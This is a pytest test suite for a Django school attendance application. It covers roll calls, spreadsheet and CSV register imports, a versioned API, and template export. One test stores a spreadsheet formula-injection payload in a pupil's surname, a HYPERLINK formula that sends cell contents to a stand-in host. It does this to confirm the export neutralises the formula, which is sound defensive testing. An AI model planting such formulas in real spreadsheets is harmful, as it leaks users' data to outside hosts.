import datetime as dt
import io
import zoneinfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from ponleu.audit.models import AccessEvent
from ponleu.common import clock
from ponleu.education.models import AttendanceMonth

from .factories import class_with_pupils

PP = zoneinfo.ZoneInfo("Asia/Phnom_Penh")
TODAY = dt.date(2026, 5, 12)


@pytest.fixture
def today():
    with clock.frozen(dt.datetime(2026, 5, 12, 9, 0, tzinfo=PP)):
        yield TODAY


def _url(school_class, day=TODAY):
    return (
        reverse("education:class_roll_call", kwargs={"class_id": school_class.pk})
        + f"?date={day.isoformat()}"
    )


def test_the_roll_call_lists_every_pupil_present_by_default_and_logs_the_read(world, login_as, today):
    school_class, pupils = class_with_pupils(world, 3)
    client = login_as(world.user("teacher"))
    response = client.get(_url(school_class))
    assert response.status_code == 200
    body = response.content.decode()
    assert body.count('class="pupil"') == 3
    assert body.count('<option value="P" selected>') == 3
    assert 'src="/static/education/rollcall.js"' in body
    assert "<script>" not in body
    assert "style=" not in body
    event = AccessEvent.objects.filter(target_type="registry.person").get()
    assert set(event.target_ids) == {str(p.person_id) for p in pupils}


def test_saving_the_roll_call_with_htmx_returns_the_sheet(world, login_as, today):
    school_class, pupils = class_with_pupils(world, 2)
    client = login_as(world.user("teacher"))
    data = {"date": TODAY.isoformat(), f"s-{pupils[0].pk}": "P", f"s-{pupils[1].pk}": "A"}
    response = client.post(_url(school_class), data, HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    assert "1 absent" in response.content.decode()
    assert "<html" not in response.content.decode()
    assert AttendanceMonth.objects.get(enrolment=pupils[1]).statuses[11] == "A"


def test_a_holiday_is_refused_with_the_reason_and_nothing_is_stored(world, login_as, today):
    school_class, pupils = class_with_pupils(world, 1)
    client = login_as(world.user("teacher"))
    holiday = dt.date(2026, 5, 5)  # Royal Ploughing Ceremony
    response = client.post(
        _url(school_class, holiday), {"date": holiday.isoformat(), f"s-{pupils[0].pk}": "A"}
    )
    assert response.status_code == 400
    assert "public holiday" in response.content.decode()
    assert not AttendanceMonth.objects.exists()


def _count(client, url) -> int:
    client.get(url)  # warm-up (sessions, caches)
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url).status_code == 200
    return len(captured)


def test_the_roll_call_runs_the_same_queries_for_one_pupil_or_twenty(world, login_as, today):
    one, _ = class_with_pupils(world, 1)
    twenty, _ = class_with_pupils(world, 20)
    client = login_as(world.user("teacher"))
    assert _count(client, _url(one)) == _count(client, _url(twenty))


def test_a_register_spreadsheet_is_checked_first_with_every_problem_by_row_and_column(world, login_as, today):
    school_class, pupils = class_with_pupils(world, 2)
    names = [p.person.display_name("en") for p in pupils]
    book = Workbook()
    sheet = book.active
    sheet.append(["Pupil", "2026-05-11", "2026-05-05", "2026-05-12"])
    sheet.append([names[0], "P", "A", "x"])
    sheet.append([names[1], "A", "", "Q"])
    sheet.append(["Nobody Here", "P", "", ""])
    content = io.BytesIO()
    book.save(content)
    client = login_as(world.user("teacher"))
    url = reverse("education:attendance_import", kwargs={"class_id": school_class.pk})
    upload = io.BytesIO(content.getvalue())
    upload.name = "register.xlsx"
    response = client.post(url, {"file": upload, "confirm": "on"})
    assert response.status_code == 400
    body = response.content.decode()
    assert "row 2, column C" in body  # a mark on the Royal Ploughing Ceremony
    assert "row 3, column D" in body  # 'Q' is no mark
    assert "row 4, column A" in body  # nobody of that name
    assert not AttendanceMonth.objects.exists()
    sheet.delete_cols(3)
    sheet.delete_rows(4)
    sheet["C3"] = "L"
    content = io.BytesIO()
    book.save(content)
    upload = io.BytesIO(content.getvalue())
    upload.name = "register.xlsx"
    response = client.post(url, {"file": upload})
    assert response.status_code == 200
    assert "would change" in response.content.decode()
    assert not AttendanceMonth.objects.exists()  # a check stores nothing
    upload = io.BytesIO(content.getvalue())
    upload.name = "register.xlsx"
    response = client.post(url, {"file": upload, "confirm": "on"})
    assert response.status_code == 302
    rows = {r.enrolment_id: r.statuses for r in AttendanceMonth.objects.all()}
    assert rows[pupils[0].pk][10:12] == "PA"
    assert rows[pupils[1].pk][10:12] == "AL"


def test_the_api_upload_is_idempotent_and_versioned(world, login_as, today):
    school_class, pupils = class_with_pupils(world, 2)
    client = login_as(world.user("teacher"))
    url = f"/api/v1/classes/{school_class.pk}/attendance"
    read = client.get(url, {"date": TODAY.isoformat()}).json()
    payload = {"date": TODAY.isoformat(), "statuses": {str(pupils[0].pk): "A"}, "version": read["version"]}
    first = client.post(url, payload, content_type="application/json")
    assert first.status_code == 200
    assert first.json()["changed"] == 2
    again = client.post(url, {**payload, "version": first.json()["version"]}, content_type="application/json")
    assert again.json()["changed"] == 0
    stale = client.post(url, {**payload, "statuses": {}}, content_type="application/json")
    assert stale.status_code == 409
    unknown = client.post(url, {**payload, "colour": "red"}, content_type="application/json")
    assert unknown.status_code == 422
    holiday = client.post(url, {"date": "2026-05-05", "statuses": {}}, content_type="application/json")
    assert holiday.status_code == 422
    assert "public holiday" in holiday.json()["errors"]["date"][0]


def test_the_register_template_writes_no_formula_and_its_names_import_back(world, login_as, today):
    school_class, pupils = class_with_pupils(world, 1)
    person = pupils[0].person
    person.family_name_latin = '=HYPERLINK("http://x.example/?d="&B2,"Sok")'
    person.save()
    client = login_as(world.user("teacher"))
    response = client.get(
        reverse("education:attendance_template", kwargs={"class_id": school_class.pk}),
        {"month": "2026-05-01"},
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    name = book.active["A2"].value
    assert name == "'" + person.display_name("en")
    # Filled in and sent back, the neutralised name is still this pupil.
    book.active["B2"] = "A"
    content = io.BytesIO()
    book.save(content)
    upload = io.BytesIO(content.getvalue())
    upload.name = "register.xlsx"
    url = reverse("education:attendance_import", kwargs={"class_id": school_class.pk})
    response = client.post(url, {"file": upload, "confirm": "on"})
    assert response.status_code == 302, response.content.decode()
    assert AttendanceMonth.objects.get(enrolment=pupils[0]).statuses.strip(".") == "A"


def _post_csv(client, school_class, content: bytes):
    upload = io.BytesIO(content)
    upload.name = "register.csv"
    url = reverse("education:attendance_import", kwargs={"class_id": school_class.pk})
    return client.post(url, {"file": upload, "confirm": "on"})


def test_a_csv_register_not_in_unicode_is_refused_in_the_users_language(world, login_as, today):
    school_class, pupils = class_with_pupils(world, 1)
    teacher = world.user("teacher")
    teacher.language = "km"
    teacher.save()
    client = login_as(teacher)
    name = pupils[0].person.display_name("en")
    response = _post_csv(client, school_class, f"Pupil,2026-05-11\n{name} é,P\n".encode("cp1252"))
    assert response.status_code == 400
    body = response.content.decode()
    assert "UTF-8" in body
    assert "codec" not in body
    assert "ឯកសារ CSV នេះ" in body  # the Khmer message
    assert not AttendanceMonth.objects.exists()


@pytest.mark.parametrize(
    ("encoding", "delimiter"), [("utf-16", "\t"), ("utf-16-be", ","), ("utf-8-sig", ";"), ("utf-8", ",")]
)
def test_a_csv_register_in_utf16_or_with_semicolons_imports(world, login_as, today, encoding, delimiter):
    school_class, pupils = class_with_pupils(world, 1)
    client = login_as(world.user("teacher"))
    text = f"សិស្ស{delimiter}2026-05-11\n{pupils[0].person.display_name('km')}{delimiter}អ\n"
    content = text.encode(encoding)
    if encoding == "utf-16-be":
        content = b"\xfe\xff" + content
    response = _post_csv(client, school_class, content)
    assert response.status_code == 302, response.content.decode()
    assert AttendanceMonth.objects.get(enrolment=pupils[0]).statuses[10] == "A"
